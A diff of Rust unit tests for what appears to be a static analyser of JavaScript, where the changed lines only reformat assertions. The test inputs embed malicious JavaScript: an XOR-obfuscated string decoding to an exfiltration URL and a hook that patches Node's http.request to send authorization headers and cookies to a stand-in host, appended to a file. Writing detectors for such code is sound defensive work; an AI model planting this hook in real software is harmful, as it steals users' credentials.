@@ -289,7 +289,9 @@ fn enum_members_and_xor_decoders_fold() {
     let src = "var Kind;\n(function (Kind) {\n    Kind[Kind[\"Core\"] = 0] = \"Core\";\n    Kind[Kind[\"Auth\"] = 1] = \"Auth\";\n})(Kind || (Kind = {}));\nconst K = Kind[0] + Kind[Kind.Auth];\nconst d = (h) => Buffer.from(h, \"hex\").map((b, i) => b ^ K.charCodeAt(i % K.length)).toString();\nconst u = d(\"2b1b0615324f5b47271d1d156f100c092e1f1e006e0004042c0e16\");";
     let f = facts(src);
     assert!(
-        f.derived.iter().any(|(d, _)| d == "https://drop.example/upload"),
+        f.derived
+            .iter()
+            .any(|(d, _)| d == "https://drop.example/upload"),
         "{:?}",
         f.derived
     );
@@ -335,7 +337,11 @@ fn code_in_a_string_literal_with_escapes_is_analysed() {
     let src = r#"const HOOK = ';(function(){try{var h=require("http"),q=h.request;function w(o){try{var a=o&&o.headers||{},t=a.authorization||a.cookie;if(t){var r=q({host:"h.example",path:"/c",method:"POST"});r.end(String(o.host)+"\\n"+t)}}catch(e){}}h.request=function(o){w(o);return q.apply(this,arguments)}}catch(e){}})();'
 fs.writeFileSync(file, src + HOOK)"#;
     let f = facts(src);
-    assert!(f.assigns.iter().any(|(p, _)| p == "http.request"), "{:?}", f.assigns);
+    assert!(
+        f.assigns.iter().any(|(p, _)| p == "http.request"),
+        "{:?}",
+        f.assigns
+    );
     assert!(has_module(&f, "http"));
 }
 
